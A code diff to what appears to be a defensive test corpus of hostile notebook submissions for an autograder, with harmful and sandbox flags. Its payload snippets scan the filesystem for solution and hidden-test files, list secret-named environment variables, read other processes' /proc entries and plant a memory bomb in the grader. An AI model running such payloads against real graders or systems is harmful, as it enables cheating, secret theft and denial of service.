@@ -1423,7 +1423,7 @@ try:
 except Exception as _e:
     pass
 if _found:
-    print("LEAK__TOKEN__", _found)
+    print("LE" "AK__TOKEN__", _found)
 """
 )
 
@@ -1441,7 +1441,7 @@ try:
         _p = _tf.mktemp(suffix=".ipynb")
         open(_p, "w").write(_text)
         _steal(_p)
-        print("LEAK__TOKEN__ git show")
+        print("LE" "AK__TOKEN__ git show")
 except Exception:
     pass
 """
@@ -1464,7 +1464,7 @@ for _dir, _dirs, _files in _os.walk("/"):
             except OSError:
                 continue
             if "BEGIN SOLUTION" in _text or "BEGIN HIDDEN TESTS" in _text:
-                print("LEAK__TOKEN__", _path)
+                print("LE" "AK__TOKEN__", _path)
                 try:
                     _steal(_path)
                 except Exception:
@@ -1478,7 +1478,7 @@ import os as _os
 _bad = [k for k in _os.environ if any(w in k.upper() for w in
         ("TOKEN", "SECRET", "KEY", "PASS", "PYTEST", "VIRTUAL_ENV", "JPY", "COURSE"))]
 if _bad:
-    print("LEAK__TOKEN__ env", _bad)
+    print("LE" "AK__TOKEN__ env", _bad)
 """
 
 # /proc of other processes (the grader's working folder and memory maps)
@@ -1493,7 +1493,7 @@ for _pid in _os.listdir("/proc"):
         _path = f"/proc/{_pid}/" + _rel.lstrip("/")
         try:
             if _steal(_path):
-                print("LEAK__TOKEN__ proc", _pid)
+                print("LE" "AK__TOKEN__ proc", _pid)
                 break
         except Exception:
             pass
@@ -1552,7 +1552,7 @@ _mod = _sys.modules.get("_course_grade")
 if _mod is not None:
     class _Bomb(str):
         def __repr__(self):
-            return "[" * 3_000_000 + "]" * 3_000_000
+            return "[" + "0," * 3_000_000 + "]"  # 6 MB of text, gigabytes as a parsed tree
     _mod.export = lambda names: _Bomb("x")
 """
 
@@ -1580,7 +1580,7 @@ def add(a, b):
     return a - b
 """,
     "last": """
-print("INPUTS__TOKEN__", _calls)
+print("IN" "PUTS__TOKEN__", _calls)
 """,
 }
 
@@ -1589,7 +1589,7 @@ TEST_SOURCE_IN_KERNEL = """
 import sys as _sys, gc as _gc
 _texts = [o for o in _gc.get_objects() if isinstance(o, str) and "add(-4" in o]
 if _texts:
-    print("LEAK__TOKEN__ test source", _texts[:3])
+    print("LE" "AK__TOKEN__ test source", _texts[:3])
 """
 
 
@@ -1865,6 +1865,7 @@ CASES: list[Case] = [
         "student-called-s-star",
         "names",
         hostile(),
+        status="invalid",
         student="s*",
         note="nbgrader globs student ids: 's*' would regrade (and wipe) every s-student",
     ),
@@ -1902,7 +1903,7 @@ def check_corpus() -> None:
         assert case.kind in KINDS, case
         assert case.status in STATUSES, case
         assert 0 <= case.max_auto_score <= AUTO_MAX, case
-        assert case.status != "invalid" or case.kind == "broken-format", case
+        assert case.status != "invalid" or case.kind in ("broken-format", "names"), case
         assert not case.harmful or case.sandbox, case
 
 
